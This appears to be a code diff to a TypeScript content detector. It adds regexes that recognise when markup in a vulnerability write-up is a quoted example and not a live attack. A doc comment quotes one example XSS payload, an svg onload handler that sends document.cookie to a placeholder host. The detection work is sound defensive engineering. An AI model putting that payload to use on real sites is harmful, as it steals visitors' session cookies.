@@ -531,11 +531,18 @@ const QUOTED_OBJECT_INTRO = /\b(?:appends|prepends|inserts|injects|embeds|hides|
  * it would / could do, a counterfactual in a warning, not an order to run it.
  */
 const HYPOTHETICAL_COMMAND = /(?:^|[.!?;:]\s{1,3}|\n)[^\S\n]{0,4}(?:[-*•][^\S\n]{1,3})?(?:an?|any|one|some|even\s{1,3}an?)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:steps?|commands?|one-liners?|lines?|scripts?|jobs?|hooks?|tasks?|actions?|invocations?)\s{1,3}(?:like|such\s{1,3}as)\s{0,3}\x60[^\x60\n]{0,240}$/i;
+/**
+ * "A payload like <svg onload=fetch('//c.example/?c='+document.cookie)> would send a viewer's cookies …": markup named
+ * as the subject of what it would do or did, in a vulnerability write-up; an attack says "render this", not "a payload like".
+ */
+const HYPOTHETICAL_MARKUP = /(?:^|[\s(])(?:an?|any|one|some|the|this|our|my)\s{1,3}(?:[\w-]{1,20}\s{1,3}){0,2}?(?:payloads?|vectors?|PoCs?|proofs?\s{1,3}of\s{1,3}concept|test\s{1,3}strings?|strings?|inputs?|snippets?|tags?|elements?)\s{1,3}(?:like|such\s{1,3}as|e\.g\.,?)\s{0,3}<[^<>\n]{0,240}$/i;
+const EFFECT_AFTER_TAG = /^[^<>\n]{0,240}>[),]?\s{1,3}(?:(?:would|could|might|can|will)\s{1,3}(?:\w{2,20}\s{1,3})?\w{3,20}|(?:sent|leaked|exfiltrated|fired|executed|ran|triggered|stole|popped|loaded|exposed)\b)/i;
 const WOULD_AFTER_SPAN = /^[^\x60\n]{0,240}\x60[),]?\s{1,3}(?:would|could|might|can|will)\s{1,3}(?:\w{2,20}\s{1,3})?\w{3,20}\b/i;
 
 export function reportedSpecimen(text: string, start: number, end: number): boolean {
   const before = text.slice(Math.max(0, start - 300), start);
   if (before.includes("\x60") && HYPOTHETICAL_COMMAND.test(before) && WOULD_AFTER_SPAN.test(text.slice(end, end + 260))) return true;
+  if (before.includes("<") && HYPOTHETICAL_MARKUP.test(before) && EFFECT_AFTER_TAG.test(text.slice(end, end + 260))) return true;
   if ((QUOTED_SAMPLE_INTRO.test(before) || QUOTED_OBJECT_INTRO.test(before)) && /^(?:[^"'’”»\x60\n]|(?<=\w)['’](?=\w)|\n(?![^\S\n]{0,8}\n)){0,240}["'’”»\x60]/.test(text.slice(end, end + 240)) && (inExplanatoryContext(text, start, end, 1) || /\bpoison\w{0,4}\b/i.test(before))) return true;
   return REPORTED_INTRO.test(before) && /\S/.test(text.slice(end, end + 200)) && inExplanatoryContext(text, start, end, 1);
 }
